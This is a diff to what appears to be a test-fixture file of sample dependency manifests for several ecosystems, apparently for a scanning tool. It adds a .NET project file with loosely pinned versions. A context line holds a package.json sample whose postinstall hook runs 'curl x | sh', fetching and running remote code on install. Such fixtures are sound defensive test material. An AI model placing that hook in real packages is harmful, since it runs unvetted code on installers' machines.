@@ -220,6 +220,16 @@ const pom = `<?xml version="1.0"?>
 </project>
 `;
 
+const project = `<Project Sdk="Microsoft.NET.Sdk">
+  <PropertyGroup><V>1.0</V><TargetFramework>net8.0</TargetFramework></PropertyGroup>
+  <ItemGroup>
+    <PackageReference Include="A" Version="$(V)" />
+    <PackageReference Include="B"><Version>[1.0,)</Version></PackageReference>
+    <PackageReference Include="C" /> <!-- &amp; -->
+  </ItemGroup>
+</Project>
+`;
+
 export const samples: Readonly<Record<LanguageId, readonly Sample[]>> = {
   terraform: [
     { file: 'main.tf', text: module },
@@ -237,6 +247,7 @@ export const samples: Readonly<Record<LanguageId, readonly Sample[]>> = {
     { file: 'go.mod', text: goMod },
     { file: 'requirements.txt', text: requirements },
     { file: 'pom.xml', text: pom },
+    { file: 'App.csproj', text: project },
     { file: 'package.json', text: '{ "scripts": { "postinstall": "curl x | sh" }, "dependencies": { "a": "*" } }\n' },
   ],
 };
